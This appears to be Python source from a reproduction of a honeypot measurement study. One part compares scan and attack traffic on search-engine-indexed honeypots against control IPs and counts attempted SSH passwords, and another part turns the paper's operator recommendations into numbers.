    def reduce(partials: list[dict[tuple, np.ndarray]]) -> dict[tuple, np.ndarray]:
        merged = {spec[0]: np.zeros(hours, dtype=np.int64) for spec in specs}
        for partial in partials:
            for key, hist in partial.items():
                merged[key] += hist
        return merged

    return run_shard_wise(map_shard, reduce, dataset)


def leak_report(dataset: AnalysisDataset, alpha: float = 0.05) -> list[LeakRow]:
    """Compute Table 3."""
    experiment = dataset.leak_experiment
    if experiment is None:
        raise ValueError("dataset has no leak experiment")

    if dataset.tables is not None:
        return _engine_leak_report(dataset, alpha)

    rows: list[LeakRow] = []
    for protocol, port in LEAK_SERVICES:
        control_series = {
            malicious: _per_ip_hourly(dataset, experiment.control_ips, port, malicious)
            for malicious in (False, True)
        }
        groups: dict[str, tuple[int, ...]] = {
            "previously": experiment.previously_leaked_ips,
        }
        for leak_group in experiment.leak_groups:
            if leak_group.port == port:
                groups[leak_group.engine] = leak_group.ips

        for group_name in ("censys", "shodan", "previously"):
            ips = groups.get(group_name, ())
            for malicious_only in (False, True):
                leaked_series = _per_ip_hourly(dataset, ips, port, malicious_only)
                control = control_series[malicious_only]
                comparison: VolumeComparison = compare_volumes(leaked_series, control)
                rows.append(
                    LeakRow(
                        service=f"{protocol.upper()}/{port}"
                        if protocol != "http"
                        else "HTTP/80",
                        group=group_name,
                        traffic="malicious" if malicious_only else "all",
                        fold=comparison.fold,
                        stochastically_greater=comparison.stochastically_greater(alpha),
                        distribution_differs=comparison.distribution_differs(alpha),
                        leaked_spikes=count_spikes(leaked_series),
                        control_spikes=count_spikes(control),
                    )
                )
    return rows


def _engine_leak_report(dataset: AnalysisDataset, alpha: float) -> list[LeakRow]:
    """Columnar :func:`leak_report`: every series comes from one shard-wise
    pass instead of a full event scan per (service, group, traffic) cell."""
    experiment = dataset.leak_experiment
    hours = dataset.window.hours
    groups_by_port: dict[int, dict[str, tuple[int, ...]]] = {}
    specs: list[tuple[tuple, int, tuple[int, ...], bool]] = []
    for protocol, port in LEAK_SERVICES:
        groups: dict[str, tuple[int, ...]] = {
            "control": tuple(experiment.control_ips),
            "previously": tuple(experiment.previously_leaked_ips),
        }
        for leak_group in experiment.leak_groups:
            if leak_group.port == port:
                groups[leak_group.engine] = tuple(leak_group.ips)
        groups_by_port[port] = groups
        for group_name in ("control", "censys", "shodan", "previously"):
            ips = groups.get(group_name, ())
            if not ips:
                continue
            for malicious_only in (False, True):
                specs.append(((group_name, port, malicious_only), port, ips, malicious_only))

    histograms = _engine_leak_series(dataset, specs)

    def series(group_name: str, port: int, malicious_only: bool) -> np.ndarray:
        ips = groups_by_port[port].get(group_name, ())
        if not ips:
            return np.zeros(hours)
        counts = histograms[(group_name, port, malicious_only)]
        return counts.astype(np.float64) / float(len(ips))

    rows: list[LeakRow] = []
    for protocol, port in LEAK_SERVICES:
        for group_name in ("censys", "shodan", "previously"):
            for malicious_only in (False, True):
                leaked_series = series(group_name, port, malicious_only)
                control = series("control", port, malicious_only)
                comparison: VolumeComparison = compare_volumes(leaked_series, control)
                rows.append(
                    LeakRow(
                        service=f"{protocol.upper()}/{port}"
                        if protocol != "http"
                        else "HTTP/80",
                        group=group_name,
                        traffic="malicious" if malicious_only else "all",
                        fold=comparison.fold,
                        stochastically_greater=comparison.stochastically_greater(alpha),
                        distribution_differs=comparison.distribution_differs(alpha),
                        leaked_spikes=count_spikes(leaked_series),
                        control_spikes=count_spikes(control),
                    )
                )
    return rows


def _engine_unique_credentials(
    dataset: AnalysisDataset, groups: dict[str, tuple[int, ...]], port: int
) -> dict[str, float]:
    """Shard-wise per-honeypot unique-password sets; set unions over
    disjoint shards are order-free, so the reduce is a plain merge."""
    from repro.analysis.contingency_engine import dataset_coder
    from repro.experiments.base import run_shard_wise

    shared_coder = dataset_coder(dataset)
    group_items = [
        (name, tuple(int(ip) for ip in ips)) for name, ips in groups.items()
    ]
    group_arrays = [
        (name, np.asarray(ips, dtype=np.int64)) for name, ips in group_items
    ]
    all_ips = np.unique(np.concatenate([array for _name, array in group_arrays]))

    def map_shard(view) -> dict[str, dict[int, set[str]]]:
        from repro.analysis.contingency_engine import _sorted_view_tables

        coder = shared_coder
        found: dict[str, dict[int, set[str]]] = {name: {} for name, _ips in group_items}
        for _vpos, table in _sorted_view_tables(view):
            dst_column = table.dst_ip
            keep = np.isin(dst_column, all_ips)
            if not keep.any():
                continue
            keep &= (table.dst_port == port) & ~np.isin(table.src_asn, _CRAWLER_ARRAY)
            if not keep.any():
                continue
            _payload_codes, creds = coder.coded(table)
            _has_cred, pair_rows, _pair_users, pair_passwords = creds
            if not pair_rows.size:
                continue
            selected = keep[pair_rows]
            destinations = dst_column[pair_rows[selected]]
            codes = pair_passwords[selected]
            for name, ips_array in group_arrays:
                member = np.isin(destinations, ips_array)
                per_ip = found[name]
                for ip, code in zip(
                    destinations[member].tolist(), codes[member].tolist()
                ):
                    per_ip.setdefault(int(ip), set()).add(coder.pass_values[code])
        return found

    def reduce(partials: list[dict[str, dict[int, set[str]]]]) -> dict[str, dict[int, set[str]]]:
        merged: dict[str, dict[int, set[str]]] = {name: {} for name, _ips in group_items}
        for partial in partials:
            for name, per_ip in partial.items():
                target = merged[name]
                for ip, passwords in per_ip.items():
                    known = target.get(ip)
                    if known is None:
                        target[ip] = passwords
                    else:
                        known |= passwords
        return merged

    merged = run_shard_wise(map_shard, reduce, dataset)
    averages: dict[str, float] = {}
    for name, ips in group_items:
        per_ip_unique = [len(merged[name].get(ip, ())) for ip in ips]
        averages[name] = float(np.mean(per_ip_unique)) if per_ip_unique else 0.0
    return averages


def unique_credentials_per_group(
    dataset: AnalysisDataset, port: int = 22
) -> dict[str, float]:
    """Average unique passwords attempted per honeypot, per leak group.

    Section 4.3: "attackers will attempt on average 3 times more unique
    SSH passwords on leaked compared to non-leaked services."
    """
    experiment = dataset.leak_experiment
    if experiment is None:
        raise ValueError("dataset has no leak experiment")
    groups: dict[str, tuple[int, ...]] = {"control": experiment.control_ips}
    for leak_group in experiment.leak_groups:
        if leak_group.port == port:
            groups[leak_group.engine] = leak_group.ips
    if dataset.tables is not None:
        return _engine_unique_credentials(dataset, groups, port)
    averages: dict[str, float] = {}
    for name, ips in groups.items():
        per_ip_unique: list[int] = []
        for ip in ips:
            passwords: set[str] = set()
            for event in _events_toward(dataset, [ip], port, malicious_only=False):
                for _username, password in event.credentials:
                    passwords.add(password)
            per_ip_unique.append(len(passwords))
        averages[name] = float(np.mean(per_ip_unique)) if per_ip_unique else 0.0
    return averages
