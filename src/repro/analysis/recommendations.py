"""Quantified Section 8 recommendations ("the operator report").

The paper closes with recommendations for researchers and operators.
Each one is a claim about measurement blind spots; this module evaluates
every recommendation *numerically* on a captured dataset, producing the
evidence an operator would need to act:

1. *Collect scan traffic from networks that host services* — how many
   attackers would a telescope-only deployment have missed?
2. *Consider an IP address' service history* — how much extra traffic do
   search-engine-indexed services attract?
3. *Consider that attackers scan unexpected protocols* — how much
   traffic would an assigned-protocol-only honeypot drop?
4. *Account for differences amongst neighboring IPs* — how often would a
   single-honeypot-per-region deployment have mischaracterized a region?
5. *Deploy across geographies* — how much does an extra APAC region add
   versus an extra US region?
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.leak import leak_report
from repro.analysis.neighborhoods import neighborhood_report
from repro.analysis.overlap import attacker_overlap
from repro.analysis.ports import protocol_breakdown
from repro.analysis.geography import geo_similarity

__all__ = ["Recommendation", "operator_report"]


@dataclass(frozen=True)
class Recommendation:
    """One quantified recommendation."""

    number: int
    title: str
    metric: str
    value: float
    unit: str
    verdict: str

    def __str__(self) -> str:
        return f"{self.number}. {self.title}: {self.metric} = {self.value:.0f}{self.unit} — {self.verdict}"


def operator_report(dataset: AnalysisDataset) -> list[Recommendation]:
    """Evaluate every Section 8 recommendation on the dataset."""
    recommendations: list[Recommendation] = []

    # 1. telescope blindness to attackers
    rows = {row.port: row for row in attacker_overlap(dataset, ports=(22, 23))}
    missed = 100.0 - (rows[22].telescope_cloud_pct or 0.0)
    recommendations.append(
        Recommendation(
            1, "Collect scan traffic from networks that host services",
            "SSH attackers invisible to a telescope", missed, "%",
            "deploy honeypots in service-hosting networks",
        )
    )

    # 2. service history matters
    if dataset.leak_experiment is not None:
        leak_rows = {(r.service, r.group, r.traffic): r for r in leak_report(dataset)}
        best = max(
            leak_rows[(service, group, "all")].fold
            for service in ("HTTP/80", "SSH/22", "TELNET/23")
            for group in ("censys", "shodan", "previously")
            if (service, group, "all") in leak_rows
            and np.isfinite(leak_rows[(service, group, "all")].fold)
        )
        recommendations.append(
            Recommendation(
                2, "Consider an IP address' service history",
                "peak traffic increase on indexed services", best, "x",
                "check Censys/Shodan history before deploying",
            )
        )

    # 3. unexpected protocols
    breakdown = {row.port: row for row in protocol_breakdown(dataset)}
    if 80 in breakdown:
        recommendations.append(
            Recommendation(
                3, "Consider that attackers scan unexpected protocols",
                "port-80 scanners not speaking HTTP", breakdown[80].unexpected_pct, "%",
                "capture all handshakes on all ports",
            )
        )

    # 4. neighboring-IP differences
    report = neighborhood_report(dataset)
    as_cells = [cell for cell in report.cells if cell.characteristic == "as"]
    worst = max(cell.percent_different for cell in as_cells) if as_cells else 0.0
    recommendations.append(
        Recommendation(
            4, "Account for differences amongst neighboring IPs",
            "neighborhoods where honeypots disagree on top ASes", worst, "%",
            "use multiple honeypots per region + statistical tests",
        )
    )

    # 5. geographic placement value
    summaries = geo_similarity(dataset)

    def _dissimilarity(grouping: str) -> float:
        cells = [s for s in summaries if s.grouping == grouping and s.num_pairs > 0]
        if not cells:
            return 0.0
        return 100.0 - float(np.mean([cell.percent_similar for cell in cells]))

    apac_gain = _dissimilarity("APAC") - _dissimilarity("US")
    recommendations.append(
        Recommendation(
            5, "Deploy honeypots across geographies",
            "extra traffic diversity from an APAC region vs a US region",
            apac_gain, " points",
            "prioritize Asia-Pacific regions when adding vantage points",
        )
    )
    return recommendations
